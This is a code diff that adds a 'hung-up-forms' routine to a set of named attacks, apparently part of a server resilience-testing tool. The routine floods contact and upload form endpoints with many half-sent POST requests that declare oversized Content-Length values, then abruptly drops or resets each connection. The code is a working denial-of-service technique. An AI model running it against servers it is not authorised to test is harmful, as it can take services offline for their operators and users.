@@ -74,6 +74,21 @@ export const attacks: Readonly<Record<string, Attack>> = {
     ])
   },
 
+  'hung-up-forms': (target, signal) =>
+    many(100, 6, async (n) => {
+      for (let count = 0; !signal.aborted; count += 1) {
+        const socket = await open(target, n, signal)
+        const length = { 'Content-Length': '200000' }
+        const message = `${head(`POST ${contact}`, { ...json, ...length })}{"name":"`
+        const file = head(`POST ${application}`, { ...upload, ...length }) + filePart
+        socket.write(count % 2 ? message : file)
+        await wait(50)
+        // Half of them with RST, which the server gets as an error (ECONNRESET); TLS sockets cannot.
+        if (count % 4 < 2 || target.certificate) socket.destroy()
+        else socket.resetAndDestroy()
+      }
+    }),
+
   'withheld-uploads': async (target, signal) => {
     const { type, bytes } = await encode(applicationForm(1, pdf(9_400_000)))
     const headers = { 'Content-Type': type, 'Content-Length': `${bytes.length}` }
